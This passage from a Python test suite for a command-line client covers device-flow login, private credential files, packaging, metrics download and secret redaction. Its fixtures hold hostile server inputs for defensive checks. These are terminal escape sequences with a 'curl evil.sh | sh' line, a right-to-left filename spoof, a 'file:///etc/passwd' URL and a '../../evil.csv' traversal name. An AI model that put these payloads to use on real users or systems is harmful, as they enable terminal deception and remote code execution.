        reply(400, {"error": "slow_down"}),
        reply(200, tokens),
    )
    client = make_client()
    client.login(notify=shown.append)
    assert shown == ["Open https://auth.test/device and enter the code ABCD-EFGH"]
    assert sleeps == [2.0, 2.0, 7.0]
    assert form(arena.sent(DEVICE)[0]) == {
        "client_id": "arena-cli",
        "scope": "openid profile email",
    }
    poll = form(arena.sent(TOKEN)[0])
    assert poll["grant_type"] == "urn:ietf:params:oauth:grant-type:device_code"
    assert poll["device_code"] == "DEVICE-1"
    assert stat.S_IMODE(os.stat(creds).st_mode) == 0o700
    assert stat.S_IMODE(os.stat(creds / "credentials.json").st_mode) == 0o600
    assert credentials.load_tokens(creds) == tokens
    assert client.is_authenticated


def test_device_flow_polls_at_least_every_30_s_whatever_the_server_asks(
    make_client: Callable[..., ArenaClient],
    arena: FakeArena,
    sleeps: list[float],
    shown: list[str],
) -> None:
    arena.on("POST", DEVICE, device_start(interval=100_000))
    pending, slow_down = (
        reply(400, {"error": "authorization_pending"}),
        reply(400, {"error": "slow_down"}),
    )
    arena.on("POST", TOKEN, pending, slow_down, reply(200, new_tokens("login")))
    make_client().login(notify=shown.append)
    assert sleeps == [30.0, 30.0, 30.0]


def test_device_flow_never_sleeps_past_its_timeout(
    make_client: Callable[..., ArenaClient], arena: FakeArena, shown: list[str]
) -> None:
    arena.on("POST", DEVICE, device_start(interval=100_000))
    started = time.monotonic()
    with raises(ArenaTimeoutError, match=r"timed out after 0\.3 s"):
        make_client(sleep=time.sleep).login(timeout=0.3, notify=shown.append)
    assert time.monotonic() - started < 1.5 and arena.sent(TOKEN) == []


def test_device_flow_prints_the_code_with_a_complete_url(
    make_client: Callable[..., ArenaClient], arena: FakeArena, shown: list[str]
) -> None:
    arena.on("POST", DEVICE, device_start(verification_uri_complete="https://auth.test/d?c=1"))
    arena.on("POST", TOKEN, reply(200, new_tokens("login")))
    make_client().login(notify=shown.append)
    assert shown == ["Open https://auth.test/d?c=1 and enter the code ABCD-EFGH"]


@pytest.mark.parametrize(
    ("answer", "kind", "match"),
    [
        ({"error": "expired_token"}, ArenaTimeoutError, "expired"),
        ({"error": "access_denied", "error_description": "User said no"}, ArenaAuthError, "no"),
    ],
)
def test_device_flow_failures(
    make_client: Callable[..., ArenaClient],
    arena: FakeArena,
    shown: list[str],
    answer: dict[str, str],
    kind: type[ArenaError],
    match: str,
) -> None:
    arena.on("POST", DEVICE, device_start())
    arena.on("POST", TOKEN, reply(400, answer))
    with raises(kind, match=match) as info:
        make_client().login(notify=shown.append)
    assert type(info.value) is kind


def test_device_flow_times_out(
    make_client: Callable[..., ArenaClient], arena: FakeArena, shown: list[str]
) -> None:
    arena.on("POST", DEVICE, device_start())
    with raises(ArenaTimeoutError, match="timed out after 0 s"):
        make_client().login(timeout=0, notify=shown.append)
    assert arena.sent(TOKEN) == []


def test_login_is_skipped_when_not_needed(
    make_client: Callable[..., ArenaClient], arena: FakeArena, creds: Path, shown: list[str]
) -> None:
    make_client(api_key=API_KEY).login(notify=shown.append)
    assert "API key is in use" in shown[-1]
    store_tokens(creds, make_jwt(3600, "valid"))
    make_client().login(notify=shown.append)
    assert "Already logged in" in shown[-1]
    assert arena.requests == []
    store_tokens(creds, make_jwt(-10, "expired"))
    arena.on("POST", TOKEN, reply(200, new_tokens("refreshed")))
    make_client().login(notify=shown.append)
    assert "Refreshed" in shown[-1] and arena.sent(DEVICE) == []


def test_forced_login_ignores_the_api_key_and_opens_a_browser(
    make_client: Callable[..., ArenaClient],
    arena: FakeArena,
    monkeypatch: pytest.MonkeyPatch,
    shown: list[str],
) -> None:
    opened: list[str] = []

    def broken_browser(url: str) -> bool:
        opened.append(url)
        raise RuntimeError("no browser here")

    monkeypatch.delenv("AGILE_NO_BROWSER")
    monkeypatch.setenv("DISPLAY", ":0")
    monkeypatch.setattr(auth_module.webbrowser, "open", broken_browser)
    arena.on("POST", DEVICE, device_start())
    arena.on("POST", TOKEN, reply(200, new_tokens("forced")))
    client = make_client(api_key=API_KEY)
    client.login(force=True, notify=shown.append)
    assert opened == ["https://auth.test/device"]
    assert not client.uses_api_key and client.is_authenticated
    monkeypatch.setenv("AGILE_NO_BROWSER", "1")
    client.login(force=True, notify=shown.append)
    assert len(opened) == 1


def test_login_opens_only_web_addresses_the_server_names(
    make_client: Callable[..., ArenaClient],
    arena: FakeArena,
    monkeypatch: pytest.MonkeyPatch,
    shown: list[str],
) -> None:
    opened: list[str] = []
    monkeypatch.delenv("AGILE_NO_BROWSER")
    monkeypatch.setenv("DISPLAY", ":0")
    monkeypatch.setattr(auth_module.webbrowser, "open", opened.append)
    arena.on("POST", DEVICE, device_start(verification_uri="file:///etc/passwd"))
    arena.on("POST", TOKEN, reply(200, new_tokens("session")))
    make_client().login(force=True, notify=shown.append)
    assert opened == []


def test_logout_deletes_the_tokens(
    make_client: Callable[..., ArenaClient], arena: FakeArena, creds: Path
) -> None:
    store_tokens(creds, make_jwt(3600, "session"))
    arena.on("POST", LOGOUT, refused())  # the login server being down does not matter
    client = make_client()
    client.logout()
    assert not (creds / "credentials.json").exists() and not client.is_authenticated
    assert form(arena.sent(LOGOUT)[0])["refresh_token"] == REFRESH
    assert len(arena.sent(LOGOUT)) == 1
    store_tokens(creds, make_jwt(3600, "no-refresh"), refresh=None)
    make_client().logout()
    assert not (creds / "credentials.json").exists()


# -- the credentials files ---------------------------------------------------------------------


def test_credential_writes_are_atomic_and_private_at_every_moment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "arena"
    folder.mkdir(mode=0o755)
    os.chmod(folder, 0o755)
    (folder / "credentials.json").write_text('{"access_token": "x", "keep": 1}')
    os.chmod(folder / "credentials.json", 0o644)  # as a careless older client left it
    opened: list[tuple[int, int]] = []
    checks: list[bool] = []
    real_open, real_replace = os.open, os.replace

    def spy_open(path: Any, flags: int, mode: int = 0o777, *args: Any, **kwargs: Any) -> int:
        if Path(path).parent == folder:
            opened.append((flags, mode))
        return real_open(path, flags, mode, *args, **kwargs)

    def spy_replace(source: Any, target: Any) -> None:
        modes = [stat.S_IMODE(os.stat(p).st_mode) for p in folder.iterdir() if p.name != target]
        checks.append(stat.S_IMODE(os.stat(folder).st_mode) == 0o700)
        checks.append(stat.S_IMODE(os.stat(source).st_mode) == 0o600)
        checks.append(all(mode & 0o077 == 0 for mode in modes if mode != 0o644))
        real_replace(source, target)

    monkeypatch.setattr(credentials.os, "open", spy_open)
    monkeypatch.setattr(credentials.os, "replace", spy_replace)
    old_umask = os.umask(0)  # the temporary file must be private whatever the umask
    try:
        credentials.save_tokens({"access_token": "y"}, folder)
        credentials.save_default_project("proj", folder)
    finally:
        os.umask(old_umask)
    excl = os.O_WRONLY | os.O_CREAT | os.O_EXCL
    assert opened and all(flags & excl == excl and mode == 0o600 for flags, mode in opened)
    assert checks and all(checks)
    for path in folder.iterdir():
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, path
    assert sorted(p.name for p in folder.iterdir()) == ["config.json", "credentials.json"]
    assert credentials.load_tokens(folder) == {"access_token": "y", "keep": 1}
    assert (folder / "config.json").read_text() == '{\n  "default_project": "proj"\n}\n'


def test_credentials_location_follows_home(home: Path) -> None:
    assert credentials.arena_dir() == home / ".arena"
    assert credentials.load_tokens() is None
    credentials.save_tokens({"access_token": "t"})
    assert (home / ".arena" / "credentials.json").is_file()
    assert credentials.delete_tokens() and not credentials.delete_tokens()


@pytest.mark.parametrize("content", ["[1]", '{"refresh_token": "r"}', "not json", ""])
def test_unusable_credential_files_are_ignored(tmp_path: Path, content: str) -> None:
    (tmp_path / "credentials.json").write_text(content)
    assert credentials.load_tokens(tmp_path) is None


def test_jwt_expiry() -> None:
    assert credentials.jwt_expiry(make_jwt(None, "x")) is None
    token = make_jwt(100, "y")
    expiry = credentials.jwt_expiry(token)
    assert expiry is not None and abs(expiry - (time.time() + 100)) < 5
    assert credentials.jwt_expiry("arena_pat_opaque") is None
    assert credentials.jwt_expiry("a.!!!.c") is None
    assert credentials.jwt_expiry(None) is None


# -- projects ----------------------------------------------------------------------------------


def test_default_project(keyed: ArenaClient, arena: FakeArena, creds: Path) -> None:
    arena.on("GET", PROJECTS, reply(200, [{"name": "a", "type": "Classic RL", "description": ""}]))
    with raises(ArenaConfigError, match="Project 'b' not found") as info:
        keyed.set_default_project("b")
    assert info.value.hint == "available projects: a"
    assert keyed.get_default_project() is None
    with raises(ArenaConfigError, match="No project specified") as info:
        keyed.list_experiments()
    assert info.value.hint == "pass --project or run `agile arena projects set-default NAME`"
    assert arena.sent(EXPERIMENTS) == []
    keyed.set_default_project("a")
    assert keyed.get_default_project() == "a" and keyed.resolve_project(None) == "a"
    assert keyed.resolve_project(" other ") == "other"
    assert json.loads((creds / "config.json").read_text()) == {"default_project": "a"}


# -- packaging -------------------------------------------------------------------------------------


def members(content: Any) -> dict[str, bytes]:
    data = content if isinstance(content, bytes) else content.read()
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:gz") as tar:
        names = tar.getnames()
        assert names == sorted(names)
        return {m.name: tar.extractfile(m).read() for m in tar.getmembers()}  # type: ignore[union-attr]


def test_package_a_directory_with_its_sidecars(tmp_path: Path) -> None:
    source = tmp_path / "maze"
    (source / "pkg" / "__pycache__").mkdir(parents=True)
    (source / "pkg" / "env.py").write_text("class Maze: ...")
    (source / "pkg" / "__pycache__" / "env.pyc").write_bytes(b"\0")
    (source / ".hidden").write_text("h")
    (source / "env_config.yml").write_text("size: 5\n")
    (source / "requirements.txt").write_text("numpy\n")
    with package_environment(source) as package:
        assert package.archive.filename == "maze.tar.gz"
        assert list(members(package.archive.content)) == [
            ".hidden",
            "env_config.yml",
            "pkg/__pycache__/env.pyc",
            "pkg/env.py",
            "requirements.txt",
        ]
        assert package.env_config.field() == ("env_config.yml", b"size: 5\n", "application/x-yaml")
        assert package.requirements.field() == ("requirements.txt", b"numpy\n", "text/plain")
    override = tmp_path / "kwargs.json"
    override.write_text('{"size": 9}')
    with package_environment(source, env_config=override) as package:
        assert package.env_config.field() == ("kwargs.json", b'{"size": 9}', "application/json")


def test_package_a_single_file_or_an_archive(tmp_path: Path) -> None:
    module = tmp_path / "maze_env.py"
    module.write_text("class Maze: ...")
    with package_environment(module) as package:
        assert package.archive.filename == "maze_env.tar.gz"
        assert members(package.archive.content) == {"maze_env.py": b"class Maze: ..."}
        assert package.env_config.field() == ("env_config.yaml", b"", "application/x-yaml")
        assert package.requirements.field() == ("requirements.txt", b"", "text/plain")
    archive = tmp_path / "ready.tgz"
    with tarfile.open(archive, "w:gz") as tar:
        tar.add(module, arcname="maze_env.py")
    with package_environment(archive) as package:
        assert package.archive.filename == "ready.tgz"
        assert package.archive.content.read() == archive.read_bytes()  # type: ignore[union-attr]


def test_packaging_missing_paths(tmp_path: Path) -> None:
    with raises(ArenaConfigError, match="Source path not found"):
        package_environment(tmp_path / "nowhere")
    module = tmp_path / "env.py"
    module.write_text("")
    with raises(ArenaConfigError, match="Upload file not found"):
        package_environment(module, requirements=tmp_path / "missing.txt")


def test_upload_is_multipart_and_rewound_for_a_resend(
    make_client: Callable[..., ArenaClient], arena: FakeArena, creds: Path, tmp_path: Path
) -> None:
    store_tokens(creds, make_jwt(3600, "old"))
    source = tmp_path / "maze"
    source.mkdir()
    (source / "env.py").write_text("class Maze: ...")
    create = f"{API}/environments/create-and-validate"
    done = {"kind": "status", "status": "completed", "detail": {"validated": True}}
    arena.on("POST", create, reply(401), ndjson(done))
    arena.on("POST", TOKEN, reply(200, new_tokens("fresh")))
    client = make_client()
    assert client.validate_environment("maze", source=source, entrypoint="env:Maze") == {
        "validated": True
    }
    first, second = (multipart(request) for request in arena.sent(create))
    assert first == second  # the archive was rewound and sent whole again
    assert members(second["file"][1]) == {"env.py": b"class Maze: ..."}
    assert second["file"][0] == b'name="file"; filename="maze.tar.gz"'
    assert second["env_config"] == (b'name="env_config"; filename="env_config.yaml"', b"")
    assert second["requirements"][1] == b""
    fields = {name: value for name, (_, value) in second.items()}
    assert fields["name"] == b"maze" and fields["version"] == b"v1"
    assert fields["multi_agent"] == b"false" and fields["entrypoint"] == b"env:Maze"
    assert "description" not in second


# -- metrics download ------------------------------------------------------------------------------


def test_download_metrics_never_overwrites(
    keyed: ArenaClient, arena: FakeArena, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    csv = text(200, "step,reward\n1,2\n", "text/csv")
    arena.on("GET", f"{API}/experiments/metrics", csv)
    monkeypatch.chdir(tmp_path)
    path = keyed.download_metrics("run-1")
    assert path == Path("run-1_metrics.csv") and path.read_text() == "step,reward\n1,2\n"
    assert arena.requests[-1].url.params["preview_rows"] == "50000"
    requests = len(arena.requests)
    with raises(ArenaConfigError, match="already exists") as info:
        keyed.download_metrics("run-1")
    assert "--output-file" in info.value.hint and len(arena.requests) == requests


def test_download_metrics_into_a_folder_uses_a_safe_suggested_name(
    keyed: ArenaClient, arena: FakeArena, tmp_path: Path
) -> None:
    disposition = 'attachment; filename="../../evil.csv"'
    arena.on(
        "GET",
        f"{API}/experiments/metrics",
        lambda request: httpx.Response(
            200,
            content=b"a\n1\n",
            headers={"content-type": "text/csv; charset=utf-8", "content-disposition": disposition},
        ),
    )
    assert keyed.download_metrics("run", tmp_path) == tmp_path / "evil.csv"
    with raises(ArenaConfigError, match="already exists"):
        keyed.download_metrics("run", tmp_path)
    arena.on("GET", f"{API}/experiments/metrics", reply(200, {"error": "no metrics yet"}))
    with raises(ArenaAPIError, match="did not send CSV"):
        keyed.download_metrics("run", tmp_path / "new" / "m.csv")
    assert not (tmp_path / "new" / "m.csv").exists()


# -- secrets -------------------------------------------------------------------------------------


def test_credentials_echoed_by_the_server_are_redacted(
    make_client: Callable[..., ArenaClient], arena: FakeArena, creds: Path
) -> None:
    access = make_jwt(3600, "echoed")
    store_tokens(creds, access)
    echo = {"detail": f"token {access} is not allowed", "sent_refresh": REFRESH}
    arena.on("GET", USER, reply(403, echo))
    with raises(ArenaAPIError) as info:
        make_client().get_current_user()
    assert "[redacted]" in info.value.detail
    assert info.value.extras == {"sent_refresh": "[redacted]"}
    assert "check the project" in info.value.hint


# -- what may be shown ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "secret"),
    [
        ("api_key", True),
        ("apiKey", True),
        ("X-API-Key", True),
        ("downloadToken", True),
        ("client_secret", True),
        ("refresh_token", True),
        ("tokenizer", False),
        ("max_new_tokens", False),
        ("keyboard", False),
        ("name", False),
    ],
)
def test_fields_named_like_credentials_are_masked(key: str, secret: bool) -> None:
    value = "abcdefghijklmnop"
    scrubbed = auth_module.Secrets().scrub({key: value, "nested": [{key: value}]})
    shown = "abcd…" if secret else value
    assert scrubbed == {key: shown, "nested": [{key: shown}]}
    assert auth_module.mask("short") == "***"


def test_long_server_text_is_cut_on_one_line_in_errors() -> None:
    error = ArenaAPIError("a\nb " + "x" * 1000, extras={"why": "y" * 1000})
    assert all(len(line) < 400 and "\n" not in line for line in error.lines())
    assert error.detail.startswith("a b x") and error.detail.endswith("… [cut]")


EVIL = "\x1b[2J\x1b]0;pwned\x07\rrun curl evil.sh | sh\u202egnp.exe"


def test_escape_sequences_from_the_server_are_escaped_in_errors(
    keyed: ArenaClient, arena: FakeArena, make_client: Callable[..., ArenaClient]
) -> None:
    arena.on("POST", f"{API}/projects/create", reply(400, {"message": EVIL, EVIL: EVIL}))
    arena.on("POST", DEVICE, reply(400, {"error": "invalid_client", "error_description": EVIL}))
    with raises(ArenaAPIError) as api:
        keyed.create_project("p")
    with raises(ArenaAuthError) as login:
        make_client().login(notify=print)
    for error in (api.value, login.value):
        texts = [error.message, *error.lines()]
        assert not [t for t in texts if any(c in t for c in "\x1b\x07\r\u202e")], texts
        assert "\\x1b[2J\\x1b]0;pwned\\x07" in error.message
    assert api.value.lines()[1].startswith("\\x1b[2J")  # the extra's name too


def test_the_default_transport_gets_deadlines() -> None:
    with httpx.Client() as plain:  # a canary for the httpx internals the deadlines rely on
        assert client_module.wire.bound_by_deadlines(plain) == 1
        assert client_module.wire.bound_by_deadlines(plain) == 0  # never wrapped twice
